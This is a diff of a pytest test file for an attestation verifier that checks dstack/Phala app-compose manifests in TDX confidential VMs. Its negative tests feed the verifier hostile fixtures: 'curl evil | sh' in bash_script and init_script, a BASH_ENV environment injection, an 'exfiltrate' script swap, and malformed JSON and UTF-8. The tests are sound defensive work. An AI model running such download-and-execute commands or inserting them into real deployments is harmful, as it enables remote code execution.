@@ -15,16 +15,15 @@ import pytest
 from confidential_samples import IDENTITY, PINNED, SAMPLES, SGX_MR_ENCLAVE, SGX_MR_SIGNER, SGX_POLICY
 
 from metaflow_stack.confidential.attest import (
-    DSTACK_EVENT_TYPE,
     AttestationRefused,
-    app_events,
-    app_parts,
     binding,
     cache_name,
     collateral_for,
     new_nonce,
     verify,
 )
+from metaflow_stack.confidential.cvm_variables import ENCRYPTED
+from metaflow_stack.confidential.dstack_app import DSTACK_EVENT_TYPE, app_events, app_of, app_parts
 from metaflow_stack.confidential.keyrelease import EnclaveKey, envelope_for, public_hex
 from metaflow_stack.confidential.policy import load_policy, parse_policy
 from metaflow_stack.confidential.seal import SealedError, is_sealed, new_data_key, seal, unseal
@@ -216,45 +215,100 @@ def test_a_dstack_apps_compose_hash_is_read_from_an_event_log_that_replays_to_rt
 
 
 def _app_compose(**fields: object) -> tuple[str, str, str]:
-    """An app compose as Phala builds it around a step's docker compose (``fields`` replace or add), its
-    bytes as the guest agent gives them; and the docker compose's and the script's SHA-256."""
+    """An app compose as Phala builds it around a step's docker compose (``fields`` replace or add; None
+    drops one), its bytes as the guest agent gives them; and the docker compose's and the script's SHA-256."""
     compose = json.dumps({"services": {"task": {"image": "stack/confidential@sha256:" + "ab" * 32}}})
     script = "#!/bin/bash\necho pre-launch\n"
     app = {"manifest_version": 2, "name": "mf-flow-score", "runner": "docker-compose", "docker_compose_file": compose,
-           "allowed_envs": ["METAFLOW_STACK_CONFIDENTIAL_ORDER"], "public_logs": False, "public_sysinfo": False,
-           "kms_enabled": True, "pre_launch_script": script} | fields  # fmt: skip
+           "allowed_envs": sorted(ENCRYPTED), "public_logs": False, "public_sysinfo": False, "kms_enabled": True,
+           "pre_launch_script": script} | fields  # fmt: skip
     raw = json.dumps({k: v for k, v in app.items() if v is not None}, indent=4)
     return raw, hashlib.sha256(compose.encode()).hexdigest(), hashlib.sha256(script.encode()).hexdigest()
+
+
+def _hash(text: str) -> str:
+    return hashlib.sha256(text.encode(errors="surrogatepass")).hexdigest()
 
 
 def test_a_steps_app_is_pinned_by_its_docker_compose_read_from_the_app_compose_the_event_log_measures(
     samples: Path,
 ) -> None:
     raw, compose, script = _app_compose()
-    measured = hashlib.sha256(raw.encode()).hexdigest()
+    measured = _hash(raw)
     assert app_parts(raw, measured) == {"docker_compose": compose, "pre_launch_script": script}
-    bare, _, _ = _app_compose(pre_launch_script=None)  # no script: the empty text's digest
-    no_script = app_parts(bare, hashlib.sha256(bare.encode()).hexdigest())["pre_launch_script"]
-    assert no_script == hashlib.sha256().hexdigest()
+    bare, _, _ = _app_compose(pre_launch_script=None, public_logs=None, allowed_envs=None, kms_enabled=None)
+    assert app_parts(bare, _hash(bare))["pre_launch_script"] == hashlib.sha256().hexdigest()  # no script: ""
     with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is not the one the event log measures"):
         app_parts(raw.replace("pre-launch", "exfiltrate"), measured)  # the script changed, the hash not
-    refused = {
-        "tdx.app_compose.runner: is 'bash', not 'docker-compose'": _app_compose(runner="bash"),
-        "tdx.app_compose.bash_script: runs code besides": _app_compose(bash_script="curl evil | sh"),
-        "tdx.app_compose.init_script: runs code besides": _app_compose(init_script=["curl evil | sh"]),
-        "tdx.app_compose.public_logs: is not false": _app_compose(public_logs=True),
-        "tdx.app_compose.public_sysinfo: is not false": _app_compose(public_sysinfo=1),
-        "tdx.app_compose.verity_volumes: is not a field known to run nothing": _app_compose(verity_volumes=[{}]),
-        "tdx.app_compose: names no docker compose file": _app_compose(docker_compose_file=None),
-    }
-    for says, (text, _, _) in refused.items():
+    refused = [
+        ("tdx.app_compose.runner: is 'bash', not 'docker-compose'", _app_compose(runner="bash")[0]),
+        ("tdx.app_compose.bash_script: runs code besides", _app_compose(bash_script="curl evil | sh")[0]),
+        ("tdx.app_compose.init_script: runs code besides", _app_compose(init_script=["curl evil | sh"])[0]),
+        ("tdx.app_compose.public_logs: is not false", _app_compose(public_logs=True)[0]),
+        ("tdx.app_compose.public_sysinfo: is not false", _app_compose(public_sysinfo=0)[0]),
+        ("tdx.app_compose.verity_volumes: is not a field known to run nothing", _app_compose(verity_volumes=[{}])[0]),
+        ("tdx.app_compose.docker_compose_file: is not text", _app_compose(docker_compose_file=None)[0]),
+        ("tdx.app_compose.pre_launch_script: is not text", _app_compose(pre_launch_script=0)[0]),
+        # A variable the launcher never sends would reach the root script that starts the compose.
+        (
+            "tdx.app_compose.allowed_envs: names BASH_ENV, which no step's CVM",
+            _app_compose(allowed_envs=["BASH_ENV"])[0],
+        ),
+        ("tdx.app_compose.allowed_envs: is not a list of names", _app_compose(allowed_envs="BASH_ENV")[0]),
+        # The disk key from the host: any enclave it runs (local), or its TPM.
+        ("tdx.app_compose.key_provider: is 'local'", _app_compose(key_provider="local")[0]),
+        ("tdx.app_compose.key_provider: is 'tpm'", _app_compose(key_provider="tpm")[0]),
+        (
+            "tdx.app_compose.key_provider: is 'local'",
+            _app_compose(kms_enabled=False, local_key_provider_enabled=True)[0],
+        ),
+        (
+            "tdx.app_compose: gives runner twice",
+            raw.replace('"runner": "docker-compose"', '"runner": "bash", "runner": "docker-compose"'),
+        ),
+        ("tdx.app_compose: is not UTF-8 text", raw.replace("mf-flow-score", "\ud800")),
+        ("tdx.app_compose.docker_compose_file: is not UTF-8 text", raw.replace("stack/confidential", "\\ud800")),
+    ]
+    for says, text in refused:
         with pytest.raises(AttestationRefused) as caught:
-            app_parts(text, hashlib.sha256(text.encode()).hexdigest())
+            app_parts(text, _hash(text))
         assert str(caught.value).startswith(says), str(caught.value)
+    made_inside, _, _ = _app_compose(key_provider="none")  # a disk key made in the VM
+    assert app_parts(made_inside, _hash(made_inside))["docker_compose"] == compose
     for text, says in (("[1]", "is not a JSON object"), ("{", "is not JSON"), (" " * 300_000, "is larger than")):
         with pytest.raises(AttestationRefused, match=rf"^tdx\.app_compose: {says}"):
-            app_parts(text, hashlib.sha256(text.encode()).hexdigest())
-    # A genuine TDX quote held to a docker compose: the app compose must come with a log naming its hash.
+            app_parts(text, _hash(text))
+
+
+def test_an_app_is_held_to_each_pin_once_its_event_log_replays_to_rtmr3() -> None:
+    from metaflow_stack.confidential.policy import TdxPolicy
+
+    raw, compose, script = _app_compose()
+    log, rt_mr3 = _dstack_log(("app-id", "11" * 20), ("compose-hash", _hash(raw)), ("instance-id", "22" * 20))
+    os_image = {"mr_td": [TDX_MR_TD], "rt_mr1": [TDX_RT_MR1], "rt_mr2": [TDX_RT_MR2]}
+    by_parts = TdxPolicy(**os_image, docker_compose=[compose], pre_launch_script=[script])
+    found = {"compose_hash": _hash(raw), "docker_compose": compose, "pre_launch_script": script}
+    assert app_of(by_parts, rt_mr3, log, raw) == found
+    assert app_of(TdxPolicy(**os_image, compose_hash=[_hash(raw)]), rt_mr3, log, None) == {"compose_hash": _hash(raw)}
+    assert app_of(TdxPolicy(**os_image, rt_mr3=[rt_mr3]), rt_mr3, None, None) == {}  # no app pinned: no app read
+    other = "9b" * 32
+    wrong = {
+        "tdx.docker_compose: " + compose: TdxPolicy(**os_image, docker_compose=[other], pre_launch_script=[script]),
+        "tdx.pre_launch_script: " + script: TdxPolicy(**os_image, docker_compose=[compose], pre_launch_script=[other]),
+        "tdx.compose_hash: " + _hash(raw): TdxPolicy(**os_image, compose_hash=[other]),
+    }
+    for says, rules in wrong.items():
+        with pytest.raises(AttestationRefused) as caught:
+            app_of(rules, rt_mr3, log, raw)
+        assert str(caught.value).startswith(f"{says} is not one the policy allows"), str(caught.value)
+    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is needed to know the app"):
+        app_of(by_parts, rt_mr3, log, None)
+    with pytest.raises(AttestationRefused, match=r"^tdx\.app_compose: is not the one the event log measures"):
+        app_of(by_parts, rt_mr3, log, _app_compose(name="another-app")[0])
+
+
+def test_a_genuine_tdx_quote_pinned_by_docker_compose_needs_its_event_log(samples: Path) -> None:
+    raw, compose, script = _app_compose()
     quote, collateral = _evidence(samples, "tdx_quote")
     pinned = parse_policy(
         f"[tdx]\nmr_td = ['{TDX_MR_TD}']\nrt_mr1 = ['{TDX_RT_MR1}']\nrt_mr2 = ['{TDX_RT_MR2}']\n"
@@ -405,6 +459,10 @@ def test_an_enclave_takes_only_the_key_of_its_measured_mode_and_policy(monkeypat
             "policy.tdx.rt_mr1: and rt_mr2 are needed",
         ),
         (f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ndocker_compose = ['5f']", "policy.tdx.docker_compose[0]: String should"),
+        (
+            f"[tdx]\nmr_td = ['{TDX_MR_TD}']\ncompose_hash = ['{'9a' * 32}']\npre_launch_script = ['{'e3' * 32}']",
+            "policy.tdx.docker_compose: is needed with pre_launch_script",
+        ),
         ("[tcb]\nallow_debug = false", "policy: allows no enclave"),
         ("[sgx", "policy: is not TOML"),
         (f"[sgx]\nmr_enclave = ['{SGX_MR_ENCLAVE}']\nmin_isv_svn = -1", "policy.sgx.min_isv_svn"),
